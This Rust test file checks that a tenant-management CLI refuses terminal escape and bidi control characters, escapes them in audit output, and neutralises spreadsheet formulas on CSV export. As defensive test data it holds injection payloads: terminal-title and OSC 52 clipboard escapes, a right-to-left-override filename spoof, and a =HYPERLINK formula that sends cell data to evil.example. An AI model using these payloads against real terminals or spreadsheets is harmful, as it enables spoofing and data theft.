//! What reaches an operator's terminal, in real processes: free text with terminal or
//! bidi controls is refused wherever it comes in (joiners kept), what the CLI prints for
//! a person from stored or reported text is escaped while `--json` stays faithful, and
//! `export` neutralises spreadsheet formulas unless `--raw`.

mod support_proc;

use support_proc::*;

const ESC_TITLE: &str = "x\u{1b}]0;pwned\u{7}";
const RLO: &str = "Acme\u{202e}gnp.exe";

fn refused(w: &World, args: &[&str], field: &str) {
    let out = w.run(args);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{args:?} was taken: {}",
        out.stdout
    );
    assert!(
        out.stderr.contains(&format!("invalid {field}")),
        "{args:?}: {}",
        out.stderr
    );
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{202e}'),
        "the error quotes the input raw: {:?}",
        out.stderr
    );
}

#[test]
fn free_text_with_terminal_or_bidi_controls_is_refused_everywhere_and_joiners_are_kept() {
    let w = World::new();
    refused(
        &w,
        &["tenant", "add", "acme", "--contact", ESC_TITLE],
        "contact",
    );
    refused(
        &w,
        &["tenant", "add", "acme", "--name", RLO],
        "display name",
    );
    refused(
        &w,
        &[
            "tenant",
            "add",
            "acme",
            "--email",
            "it\u{1b}[2J@acme.example",
        ],
        "email",
    );
    refused(
        &w,
        &[
            "tenant",
            "add",
            "acme",
            "--return-url",
            "https://app.example.com/\u{2028}x",
        ],
        "return URL",
    );
    assert_eq!(
        w.json(&["tenant", "list"]).as_array().map(Vec::len),
        Some(0),
        "nothing was added"
    );
    w.ok(&["tenant", "add", "acme"]);
    refused(&w, &["tenant", "edit", "acme", "--contact", RLO], "contact");
    refused(
        &w,
        &["tenant", "edit", "acme", "--name", "a\u{2029}b"],
        "display name",
    );
    let csv = w.tmp.path().join("t.csv");
    std::fs::write(
        &csv,
        format!("slug,name,contact\nbeta,Beta,{ESC_TITLE}\ngamma,Gamma,ops\n"),
    )
    .unwrap();
    let out = w.run(&["tenant", "import", csv.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        out.stderr.contains("line 2: invalid contact"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains('\u{1b}'), "{:?}", out.stderr);
    // Persian with a zero-width non-joiner, an emoji with a zero-width joiner.
    let persian = "\u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{645}";
    let emoji = "\u{1f469}\u{200d}\u{1f4bb} ops desk";
    w.ok(&[
        "tenant",
        "add",
        "delta",
        "--name",
        persian,
        "--contact",
        emoji,
    ]);
    let t = w.tenant("delta");
    assert_eq!(
        (t["display_name"].as_str(), t["contact"].as_str()),
        (Some(persian), Some(emoji))
    );
    let shown = w.ok(&["tenant", "show", "delta"]);
    assert!(shown.contains(persian) && shown.contains(emoji), "{shown}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_prints_a_reported_user_and_an_unvalidated_slug_escaped_and_json_as_stored() {
    let mut w = World::new();
    let user = "ops\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}";
    w.env.push(("USER".into(), user.into()));
    let _serve = w.serve();
    w.ok(&["tenant", "add", "acme"]);
    let bad_slug = "bad\u{1b}[2Jslug";
    let out = w.run(&["tenant", "remove", bad_slug]);
    assert_eq!(out.status.code(), Some(1));
    let text = w.ok(&["audit"]);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
        "raw controls reach the terminal: {text:?}"
    );
    assert!(
        text.contains("ops\\u{1b}]52;c;ZXZpbA==\\u{7}\\u{202e}"),
        "{text}"
    );
    // --json keeps what was stored (serde writes the controls as \u escapes).
    let lines: Vec<serde_json::Value> = w
        .ok(&["--json", "audit"])
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        lines.iter().any(|r| r["actor"]["user"] == user),
        "{lines:#?}"
    );
    let remove = lines
        .iter()
        .find(|r| r["what"] == "remove_tenant")
        .expect("the refused remove is audited");
    assert_eq!(remove["tenant"], bad_slug);
    assert!(text.contains("bad\\u{1b}[2Jslug"), "{text}");
}

#[test]
fn export_neutralises_formulas_unless_raw_and_json_is_untouched() {
    let w = World::new();
    let formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Acme\")";
    w.ok(&["tenant", "add", "acme", "--name", formula]);
    w.ok(&["tenant", "add", "beta", "--name", "@SUM(1+1)"]);
    w.ok(&["tenant", "add", "gamma", "--name", "Gamma - West"]);
    let name_cells = |csv: &str| -> Vec<String> {
        csv::Reader::from_reader(csv.as_bytes())
            .records()
            .map(|r| r.unwrap()[1].to_owned())
            .collect()
    };
    assert_eq!(
        name_cells(&w.ok(&["export"])),
        [
            format!("'{formula}"),
            "'@SUM(1+1)".into(),
            "Gamma - West".into()
        ]
    );
    assert_eq!(
        name_cells(&w.ok(&["export", "--raw"])),
        [formula, "@SUM(1+1)", "Gamma - West"]
    );
    let j = w.json(&["export"]);
    assert_eq!(j[0]["name"], formula);
}
